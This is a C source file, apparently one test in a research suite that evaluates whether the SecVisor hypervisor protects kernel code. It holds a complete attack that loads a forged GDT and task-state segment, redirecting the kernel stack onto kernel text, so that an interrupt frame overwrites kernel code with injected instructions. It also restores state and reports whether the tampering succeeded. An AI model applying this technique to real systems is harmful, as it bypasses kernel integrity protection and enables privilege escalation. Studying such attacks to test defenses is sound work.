// Row 8. TR loaded with another task-state segment, in a GDT of the attacker's, whose RSP0 leads to kernel text: the processor pushes an interrupt's frame, whose RSP field is code, over it.
// Source: a write primitive by the task-state segment.
// Ends: natively succeeded; beneath SecVisor restored, tampered.
#include "common/attack.h"
#include <string.h>

__attribute__((noreturn)) static void judge(long before, const u8 *approved, u64 at)
{
	u8 now[CODE_LENGTH];
	long result;

	kread(at, now, sizeof(now));
	if (!memcmp(now, approved, sizeof(now)))
		failed("nothing was written");
	result = victim();
	if (result == MARK)
		succeeded("an interrupt's frame was run as kernel text");
	if (result == before)
		restored("the frame was pushed, but the approved bytes ran");
	failed("the system call returned %ld", result);
}

ATTACK("task-register")
{
	u64 at = symbol(VICTIM), alias = map_physical(physical(at), KERNEL_DATA), code, top = alias + 16;
	u64 copy = kernel_page(), segment = kernel_page();
	struct tables found = tables();
	u8 approved[CODE_LENGTH], table[256], task[104], own[16];
	long before = victim(), result;

	if (at % 16)
		failed("%s does not begin at a multiple of 16", VICTIM);
	kread(at, approved, sizeof(approved));
	keep_bytes(at - 256, 320);
	kread(found.tss, task, sizeof(task));
	memcpy(task + 4, &top, 8);
	kwrite(segment, task, sizeof(task));
	// The descriptor: limit and type (an available TSS), then the address.
	kread(found.gdt, table, sizeof(table));
	u64 low = (sizeof(task) - 1) | (segment & 0xffffff) << 16 | 0x89ull << 40 | (segment >> 24 & 0xff) << 56;
	u64 high = segment >> 32;
	memcpy(own, table + found.task, sizeof(own));
	own[5] &= ~2;
	memcpy(table + found.task, &low, 8);
	memcpy(table + found.task + 8, &high, 8);
	kwrite(copy, table, sizeof(table));
	memcpy(&code, "\xb8\x37\x13\0\0\xc3\x90\x90", 8); // mov eax, 0x1337; ret
	undo_gdt(found.gdt, found.gdt_limit);
	about_to("take an interrupt with a TSS of our own");
	operate(VULNERABLE_LGDT, copy, found.gdt_limit, 0);
	// All in one go: whatever enters the kernel from user mode meanwhile uses this stack.
	operate(VULNERABLE_LTR, found.task, 0, 0);
	__asm__ volatile("mov %%rsp, %%rbx; mov %2, %%rsp; int $0x80; mov %%rbx, %%rsp"
			 : "=a"(result)
			 : "a"(20), "r"(code)
			 : "rbx", "r8", "r9", "r10", "r11", "memory", "cc");
	// Back by way of the copy: LTR writes to the table, and the kernel's own is read-only.
	kwrite(copy + found.task, own, sizeof(own));
	operate(VULNERABLE_LTR, found.task, 0, 0);
	operate(VULNERABLE_LGDT, found.gdt, found.gdt_limit, 0);
	judge(before, approved, at);
}
